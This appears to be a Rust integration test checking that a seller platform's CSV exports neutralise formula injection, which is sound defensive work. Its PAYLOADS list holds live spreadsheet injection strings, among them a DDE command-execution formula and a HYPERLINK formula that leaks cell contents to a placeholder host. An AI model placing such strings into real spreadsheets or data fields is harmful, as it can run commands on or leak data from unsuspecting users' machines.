//! No cell of an export is a formula, whatever somebody wrote into whatever becomes one: taken from the declarations
//! of the sheets, built as the worker builds it, and read back from the file.

use kontor_db::{Row, query};
use std::sync::Arc;

use diesel_async::{RunQueryDsl, SimpleAsyncConnection};
use futures::TryStreamExt;
use kontor_exports::{Builder, Request, Resource, build, find, request};
use kontor_files::{MemoryStore, ObjectStore};
use kontor_kernel::{Locale, Machine};
use kontor_lists::{Cell, Sheet};
use kontor_registry::exported;
use kontor_testkit::World;

/// What spreadsheets have run (OWASP, CSV injection), and what becomes it where semicolons end a cell.
const PAYLOADS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=HYPERLINK(\"http://x.test?\"&A1,\"a\")",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "a;=1+1",
    "a\";\"=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
];

#[derive(Row)]
struct Name {
    name: String,
}

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_of_an_export_is_a_formula() {
    let world = World::new().await;
    let anna = world.seller("anna").await;
    let mut tx = world.api.begin(anna.scope()).await.unwrap();
    let fill = query(include_str!("../../../orders/tests/fill.sql"));
    fill.bind(anna.id).bind(3).execute(tx.conn().unwrap()).await.unwrap();
    let moved = query(include_str!("../../../orders/tests/money.sql"));
    moved.bind(anna.id).execute(tx.conn().unwrap()).await.unwrap();
    tx.commit().await.unwrap();
    let mut owner = world.owner().await;
    owner.batch_execute(include_str!("rows.sql")).await.unwrap();
    let files = Arc::new(MemoryStore::default());
    for resource in Resource::ALL {
        let sheet = exported(*resource).unwrap();
        let poisoned = text_columns(&mut owner, sheet).await;
        for payload in PAYLOADS {
            let mut written = Vec::new();
            for column in &poisoned {
                // A column that takes certain words only refuses, and stays as it is. The seller's rows are the only ones.
                for (table, field) in sources(base_table(sheet.table), column) {
                    let sql = format!("UPDATE {table} SET \"{field}\" = $1");
                    if query(sql).bind(payload).execute(&mut owner).await.is_ok() {
                        written.push(format!("r.{column}"));
                    }
                }
            }
            let public_url = "http://kontor.test".to_owned();
            let builder = Builder { db: world.worker.clone(), files: files.clone(), sheets: exported, public_url };
            let mut tx = world.api.begin(anna.scope()).await.unwrap();
            let new_export =
                Request { resource: *resource, query: "", locale: Locale::De, requested_by: Some(anna.user) };
            let export = request(&mut tx, exported, &new_export).await.unwrap();
            tx.commit().await.unwrap();
            build(&builder, anna.id, export.id, |_| async { None }).await.unwrap();
            let mut tx = world.api.begin(anna.scope()).await.unwrap();
            let key = find(&mut tx, export.id).await.unwrap().object_key.unwrap();
            let pieces: Vec<_> = files.get(&key).await.unwrap().unwrap().try_collect().await.unwrap();
            let file = String::from_utf8(pieces.concat()).unwrap();

            let rows = parse(file.trim_start_matches('\u{feff}'));
            assert!(rows.len() > 1 && rows.iter().all(|row| row.len() == sheet.columns.len()), "{payload:?}: {file}");
            for row in &rows {
                for (column, cell) in sheet.columns.iter().zip(row) {
                    assert!(harmless(cell), "{}.{}: {payload:?} became {cell:?}", sheet.name, column.key);
                }
            }
            for (column, cell) in sheet.columns.iter().zip(&rows[1]) {
                if written.contains(&column.sql.to_owned()) && matches!(column.cell, Cell::Text) {
                    assert_eq!(cell.replace('\'', ""), payload.replace('\'', ""), "{}.{}", sheet.name, column.key);
                }
            }
            let texts =
                sheet.columns.iter().filter(|column| matches!(column.cell, Cell::Text) && column.sql.starts_with("r."));
            let missed: Vec<_> =
                texts.filter(|column| !written.contains(&column.sql.to_owned())).map(|column| column.key).collect();
            assert!(missed.is_empty(), "{}: nothing could be written to {missed:?}", sheet.name);
        }
    }
}

/// Where a text of a list is kept: in its own table, or in those that its view is made of.
/// The table that a sheet shows some rows of.
fn base_table(table: &str) -> &str {
    table.strip_prefix("(SELECT * FROM ").and_then(|rest| rest.split(' ').next()).unwrap_or(table)
}

fn sources<'a>(table: &'a str, column: &'a str) -> Vec<(&'a str, &'a str)> {
    match (table, column) {
        // What a transfer or an answer says of its order is kept with the order.
        ("transfer_rows", _) => vec![("order_rows", column)],
        ("payment_log_rows", _) => vec![("payment_logs", column), ("order_rows", column)],
        ("opt_in_answer_rows", _) => vec![("opt_in_answers", column), ("order_rows", column)],
        ("product_group_rows", "products") | ("best_seller_rows", "product_name") => vec![("products", "name")],
        ("product_group_rows", _) => vec![("product_groups", column)],
        ("top_customer_rows", _) => vec![("figure_customers", column)],
        ("campaign_rows", "campaign_id") => vec![("campaign_days", "key")],
        _ => vec![(table, column)],
    }
}

/// The texts of the sheet's table that reach a column of the file as they are.
async fn text_columns(owner: &mut diesel_async::AsyncPgConnection, sheet: &Sheet) -> Vec<String> {
    let sql = "SELECT column_name::text AS name FROM information_schema.columns
               WHERE table_name = $1 AND data_type IN ('text', 'character varying')";
    let found: Vec<Name> = query(sql).bind(base_table(sheet.table)).load(owner).await.unwrap();
    // The currency decides how amounts are written, and one that nobody knows ends the file.
    let reaches = |name: &str| {
        let sql = format!("r.{name}");
        sheet.currency != Some(sql.as_str()) && sheet.columns.iter().any(|column| column.sql == sql)
    };
    found.into_iter().map(|row| row.name).filter(|name| reaches(name)).collect()
}

/// Neither the cell itself begins a formula, nor a piece of it that another reader may take for a cell or a line.
fn harmless(cell: &str) -> bool {
    let number = |text: &str| text.strip_prefix('-').unwrap_or(text).chars().all(|c| c.is_ascii_digit() || c == ',');
    let pieces = cell.split([';', ',', '\t', '\n', '\r']).map(|piece| piece.trim_start_matches([' ', '"']));
    number(cell)
        || (!cell.starts_with(['\t', '\r', '\n'])
            && pieces.into_iter().all(|piece| !piece.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])))
}

/// RFC 4180, with the semicolons of a German file.
fn parse(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ';' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    rows
}
